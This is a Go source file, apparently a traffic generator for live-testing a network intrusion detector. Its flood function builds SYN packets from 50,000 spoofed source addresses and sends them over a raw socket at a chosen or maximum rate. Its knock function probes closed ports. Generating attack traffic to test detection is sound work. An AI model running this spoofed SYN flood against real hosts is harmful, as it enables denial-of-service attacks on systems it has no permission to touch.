//go:build linux

package live

import (
	"bytes"
	"encoding/binary"
	"encoding/hex"
	"fmt"
	"math/rand/v2"
	"net"
	"net/netip"
	"strconv"
	"strings"
	"time"

	"golang.org/x/sys/unix"

	"klaxon/internal/decode"
	"klaxon/internal/synth"
)

// forgedSources is how many addresses a flood claims to come from.
const forgedSources = 50_000

// flood sends SYNs from forged addresses to the victim: RATE LASTING PORT... A
// rate of 0 is all that can be sent.
func flood(args []string) error {
	rate, err := strconv.Atoi(args[0])
	if err != nil {
		return err
	}
	lasting, err := time.ParseDuration(args[1])
	if err != nil {
		return err
	}
	frames, err := forge(args[2:])
	if err != nil {
		return err
	}
	dev, err := net.InterfaceByName("eth0")
	if err != nil {
		return err
	}
	fd, err := unix.Socket(unix.AF_PACKET, unix.SOCK_RAW|unix.SOCK_CLOEXEC, 0)
	if err != nil {
		return err
	}
	defer unix.Close(fd)
	sayReady()
	return pour(fd, &unix.SockaddrLinklayer{Ifindex: dev.Index}, frames, rate, lasting)
}

// pour sends frames over and over, at a rate.
func pour(fd int, to *unix.SockaddrLinklayer, frames [][]byte, rate int, lasting time.Duration) error {
	sent, began := 0, time.Now()
	for took := time.Duration(0); took < lasting; took = time.Since(began) {
		due := sent + 256
		if rate > 0 {
			due = int(float64(rate) * took.Seconds())
		}
		for ; sent < due; sent++ {
			frame := frames[sent%len(frames)]
			another(frame)
			if err := unix.Sendto(fd, frame, 0, to); err != nil && err != unix.ENOBUFS {
				return fmt.Errorf("send: %w", err)
			}
		}
		if rate > 0 {
			time.Sleep(time.Millisecond)
		}
	}
	return nil
}

// forge makes one SYN of each source, as a Linux kernel sends it.
func forge(ports []string) (frames [][]byte, err error) {
	head, err := hex.DecodeString(strings.ReplaceAll(victimMAC+worldMAC, ":", ""))
	if err != nil {
		return nil, err
	}
	r := rand.New(rand.NewPCG(7, 11))
	for n := range forgedSources {
		port, err := strconv.ParseUint(ports[n%len(ports)], 10, 16)
		if err != nil {
			return nil, err
		}
		b := append(bytes.Clone(head), 8, 0, 0x45, 0, 0, 60, byte(n), byte(n>>8), 0x40, 0, 50, 6, 0, 0)
		b = binary.BigEndian.AppendUint32(b, 20<<24+r.Uint32N(80<<24)) // 20.0.0.0 to 99.255.255.255
		b = append(b, victim4.AsSlice()...)
		binary.BigEndian.PutUint16(b[24:], synth.Checksum(b[14:34]))
		b = synth.Segment{
			SrcPort: uint16(32768 + r.Uint32N(28000)), DstPort: uint16(port), Seq: r.Uint32() >> 1, Flags: decode.SYN, Window: 64240,
			Options: []byte{2, 4, 5, 0xb4, 4, 2, 8, 10, byte(n), byte(n >> 8), 0xff, 0xff, 0, 0, 0, 0, 1, 3, 3, 7},
		}.Append(b, netip.AddrFrom4([4]byte(b[26:])), victim4)
		frames = append(frames, b)
	}
	return frames, nil
}

// another makes a SYN one of another connection. What its sequence number wins
// its timestamp loses, so the checksum holds.
func another(frame []byte) {
	seq, stamp := frame[38:], frame[64:]
	binary.BigEndian.PutUint16(seq, binary.BigEndian.Uint16(seq)+1)
	binary.BigEndian.PutUint16(stamp, binary.BigEndian.Uint16(stamp)-1)
}

// knock connects to closed ports of a host, one a second: FROM TO PORTS.
func knock(args []string) error {
	n, err := strconv.Atoi(args[2])
	if err != nil {
		return err
	}
	sayReady()
	d := net.Dialer{Timeout: dialLimit, LocalAddr: &net.TCPAddr{IP: net.ParseIP(args[0])}}
	for port := range n {
		go func() {
			if c, err := d.Dial("tcp", net.JoinHostPort(args[1], strconv.Itoa(4001+port))); err == nil {
				c.Close()
			}
		}()
		time.Sleep(time.Second)
	}
	return nil
}
